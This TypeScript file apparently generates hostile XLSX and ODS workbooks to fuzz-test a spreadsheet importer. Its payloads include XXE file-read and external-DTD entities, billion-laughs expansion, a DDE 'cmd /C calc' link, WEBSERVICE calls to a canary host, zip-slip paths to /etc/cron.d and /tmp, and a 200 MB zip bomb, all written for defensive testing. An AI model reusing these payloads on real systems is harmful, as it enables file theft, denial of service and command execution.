import { deflateRawSync } from 'node:zlib';
import { zip, type Entry } from '../../../src/platform/zip/index.ts';
import { pick, whole, type Random } from '../random.ts';
import { cell, secret, table } from './cells.ts';

/* Workbooks as no program writes them: XLSX (ISO/IEC 29500) and ODS (ISO/IEC 26300) by hand. */

const entry = (name: string, text: string): Entry => ({ name, bytes: Buffer.from(text) });

const escaped = (text: string): string =>
  text
    .toWellFormed()
    .replaceAll(/[\p{Cc}--[\n\t]]/gv, '')
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('"', '&quot;');

const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

const letters = (n: number): string =>
  n < 26 ? String.fromCodePoint(65 + n) : letters(Math.floor(n / 26) - 1) + letters(n % 26);

/** A cell as Excel keeps it: text, a number, a formula with what it last gave, or an error. */
function xlsxCell(random: Random, text: string, place: string): string {
  const inside = escaped(text);
  return pick(random, [
    `<c r="${place}" t="inlineStr"><is><t>${inside}</t></is></c>`,
    `<c r="${place}" t="inlineStr"><is><t>${inside}</t></is></c>`,
    `<c r="${place}" t="str"><f>${inside}</f><v>${inside}</v></c>`,
    `<c r="${place}" t="str"><f t="array" ref="A1:A9">WEBSERVICE("http://canary.invalid/")</f><v>${inside}</v></c>`,
    `<c r="${place}" t="s"><v>0</v></c>`,
    `<c r="${place}" t="s"><v>99999999</v></c>`,
    `<c r="${place}"><v>${pick(random, ['45000', '1e999', '-1', 'NaN', '46447.5', inside])}</v></c>`,
    `<c r="${place}" t="e"><v>#REF!</v></c>`,
    `<c r="${place}" t="d"><v>2027-12-31T00:00:00Z</v></c>`,
    `<c r="${place}" t="b"><v>1</v></c>`,
    `<c r="${place}" t="okänd"><v>${inside}</v></c>`,
  ]);
}

const sheetData = (random: Random): string =>
  table(random)
    .map((cells, row) => `<row r="${row + 1}">${cells.map((text, at) => xlsxCell(random, text, `${letters(at)}${row + 1}`)).join('')}</row>`)
    .join(''); // prettier-ignore

/** What stands in a workbook beside its cells, none of it to be looked into. */
const beside = (): readonly Entry[] => [
  entry('xl/vbaProject.bin', `Sub Auto_Open() ${secret}`),
  entry('xl/externalLinks/externalLink1.xml', `<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>`),
  entry('xl/connections.xml', `<connections><connection url="http://canary.invalid/${secret}"/></connections>`),
  entry('xl/embeddings/oleObject1.bin', secret),
  entry('docProps/core.xml', `<creator>${secret}</creator>`),
  entry('xl/comments1.xml', `<comments>${secret}</comments>`),
]; // prettier-ignore

type Xlsx = {
  readonly sheet: string;
  readonly names?: readonly string[];
  readonly prolog?: string;
  readonly shared?: string;
};

export function xlsx({ sheet, names = ['Blad'], prolog = '', shared = '<si><t>delad</t></si>' }: Xlsx): readonly Entry[] {
  const head = `<?xml version="1.0" encoding="UTF-8"?>${prolog}`;
  const parts = names.map((_, n) => `/xl/worksheets/sheet${n + 1}.xml`);
  return [
    entry('[Content_Types].xml', `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/><Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>${parts.map((part) => `<Override PartName="${part}" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>`).join('')}</Types>`),
    entry('_rels/.rels', `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${office}/officeDocument" Target="xl/workbook.xml"/></Relationships>`),
    entry('xl/workbook.xml', `${head}<workbook xmlns="${main}" xmlns:r="${office}"><definedNames><definedName name="_xlnm.Auto_Open">Blad!$A$1</definedName></definedNames><sheets>${names.map((name, n) => `<sheet name="${escaped(name)}" sheetId="${n + 1}" r:id="s${n + 1}"/>`).join('')}</sheets></workbook>`),
    entry('xl/_rels/workbook.xml.rels', `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${names.map((_, n) => `<Relationship Id="s${n + 1}" Type="${office}/worksheet" Target="worksheets/sheet${n + 1}.xml"/>`).join('')}<Relationship Id="x1" Type="${office}/externalLink" Target="http://canary.invalid/x.xlsx" TargetMode="External"/><Relationship Id="x2" Type="${office}/sharedStrings" Target="sharedStrings.xml"/></Relationships>`),
    entry('xl/sharedStrings.xml', `${head}<sst xmlns="${main}">${shared}</sst>`),
    ...parts.map((part) => entry(part.slice(1), `${head}<worksheet xmlns="${main}">${sheet}</worksheet>`)),
  ];
} // prettier-ignore

const filled = (random: Random): string => `<sheetData>${sheetData(random)}</sheetData>`;

const merges = (random: Random): string =>
  `<mergeCells>${Array.from({ length: 1 + whole(random, 2000) }, () => `<mergeCell ref="${pick(random, ['A1:XFD1048576', 'A1:A1048576', 'B2:C9', 'Z9:A1', 'A0:B-1', ''])}"/>`).join('')}</mergeCells>`;

const grow = Array.from({ length: 12 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join('');

/** XML that names what is elsewhere, or grows when it is read. */
const prologs = (file: string): readonly string[] => [
  `<!DOCTYPE x [<!ENTITY a SYSTEM "file://${file}">]>`,
  '<!DOCTYPE x SYSTEM "http://canary.invalid/x.dtd">',
  '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://canary.invalid/p"> %p;]>',
  `<!DOCTYPE x [<!ENTITY e0 "aaaaaaaaaaaaaaaaaaaaaaaa">${grow}]>`,
  `<!doctype x [<!entity a "a">]>`,
];

const content = (inside: string, prolog = ''): readonly Entry[] => [
  entry('mimetype', 'application/vnd.oasis.opendocument.spreadsheet'),
  entry('META-INF/manifest.xml', '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'),
  entry('content.xml', `<?xml version="1.0" encoding="UTF-8"?>${prolog}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet><table:table table:name="Blad">${inside}</table:table></office:spreadsheet></office:body></office:document-content>`),
  entry('Scripts/python/x.py', secret),
  entry('Basic/Standard/Module1.xml', secret),
]; // prettier-ignore

const repeats = ['2147483647', '1048576', '99999999999999999999', '-1', '16384', '0', '5'];

const odsRows = (random: Random): string =>
  table(random)
    .map((cells) => `<table:table-row table:number-rows-repeated="${random() < 0.15 ? pick(random, repeats) : '1'}">${cells.map((text) => `<table:table-cell ${random() < 0.15 ? `table:number-columns-repeated="${pick(random, repeats)}"` : ''} office:value-type="string" ${random() < 0.3 ? `table:formula="of:=${escaped(text)}"` : ''}><text:p>${escaped(text)}</text:p></table:table-cell>`).join('')}</table:table-row>`)
    .join(''); // prettier-ignore

/** A ZIP whose entry is deflated, and says how large it is. */
function deflated(name: string, bytes: Buffer, says: number): Buffer {
  const made = zip([{ name, bytes: deflateRawSync(bytes, { level: 9 }) }]);
  const at = made.indexOf(Buffer.from([0x50, 0x4b, 1, 2]));
  made.writeUInt16LE(8, 8);
  made.writeUInt16LE(8, at + 10);
  made.writeUInt32LE(says, 22);
  made.writeUInt32LE(says, at + 24);
  return made;
}

const swollen = new Map<string, Buffer>();

function swelling(random: Random): Buffer {
  const name = pick(random, ['xl/workbook.xml', 'content.xml', 'xl/worksheets/sheet1.xml']);
  const size = 200_000_000;
  const says = pick(random, [size, 100, 0]);
  const key = `${name} ${says}`;
  const made = swollen.get(key) ?? deflated(name, Buffer.alloc(size, 0x20), says);
  swollen.set(key, made);
  return made;
}

const cells = (count: number, row: number): string =>
  Array.from(
    { length: count },
    (_, at) => `<c r="${letters(at)}${row}" t="inlineStr"><is><t>a</t></is></c>`,
  ).join('');

/** Larger than it looks, or than anybody writes. */
function huge(random: Random): readonly Entry[] {
  const sheets: readonly (() => string)[] = [
    () => `<dimension ref="A1:XFD1048576"/>${filled(random)}`,
    () => `<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>`,
    () => `<sheetData><row r="1">${cells(5000, 1)}</row></sheetData>`,
    () => `<sheetData>${Array.from({ length: 3000 }, (_, n) => `<row r="${n + 1}">${cells(12, n + 1)}</row>`).join('')}</sheetData>`,
    () => `<sheetData>${'<row r="1">'.repeat(20_000)}</sheetData>`,
    () => `<sheetData><row r="99999999999"><c r="A99999999999"><v>1</v></c></row></sheetData>`,
    () => `<cols>${'<col min="1" max="16384"/>'.repeat(2000)}</cols>${filled(random)}`,
  ]; // prettier-ignore
  return xlsx({ sheet: pick(random, sheets)() });
}

const manySheets = (random: Random): readonly Entry[] =>
  xlsx({
    sheet: filled(random),
    names: pick(random, [
      ['__proto__', 'constructor', 'toString'],
      Array.from({ length: 120 }, (_, n) => `Blad ${n}`),
      ['../../x', cell(random).slice(0, 30), ''],
      ['Blad', 'Blad'],
    ]),
  });

/** Names that lead out of the folder, are there twice, are many, or are locked. */
function namesOf(random: Random): readonly Entry[] {
  const sound = xlsx({ sheet: filled(random) });
  const more: readonly (readonly Entry[])[] = [
    [entry('../../../../tmp/kommons-slip.xml', 'x'), entry('/etc/cron.d/x', 'x'), entry('xl/worksheets/../../../x.xml', 'x')],
    sound,
    Array.from({ length: 4000 }, (_, n) => entry(`xl/media/${n}.png`, 'x')),
    [entry('META-INF/manifest.xml', '<manifest:encryption-data/>')],
    beside(),
  ]; // prettier-ignore
  return [...sound, ...pick(random, more)];
}

/** Bytes changed, lost or doubled somewhere. */
function spoilt(random: Random, bytes: Buffer): Buffer {
  const made = Buffer.from(bytes);
  for (let n = whole(random, 30) + 1; n > 0; n -= 1) made[whole(random, made.length)] = whole(random, 256);
  return random() < 0.4 ? made.subarray(0, whole(random, made.length)) : made;
}

/** One hostile workbook, drawn. `file` holds the secret, for XML that reaches for it. */
export function hostileWorkbook(random: Random, file: string): Buffer {
  const prolog = pick(random, prologs(file));
  const reach = '<c r="A2" t="inlineStr"><is><t>&a;&e12;</t></is></c>';
  const kinds: readonly (() => Buffer)[] = [
    () => zip([...xlsx({ sheet: filled(random) }), ...beside()]),
    () => zip([...xlsx({ sheet: `${filled(random)}${merges(random)}` }), ...beside()]),
    () => zip(xlsx({ sheet: `<sheetData><row r="2">${reach}</row></sheetData>`, prolog })),
    () => zip(huge(random)),
    () => zip(manySheets(random)),
    () => zip(namesOf(random)),
    () => zip(content(odsRows(random))),
    () => zip(content(odsRows(random))),
    () => zip(content('<table:table-row><table:table-cell><text:p>&a;&e12;</text:p></table:table-cell></table:table-row>', prolog)),
    () => swelling(random),
    () => spoilt(random, zip(xlsx({ sheet: filled(random) }))),
    () => spoilt(random, zip(content(odsRows(random)))),
  ]; // prettier-ignore
  return pick(random, kinds)();
}
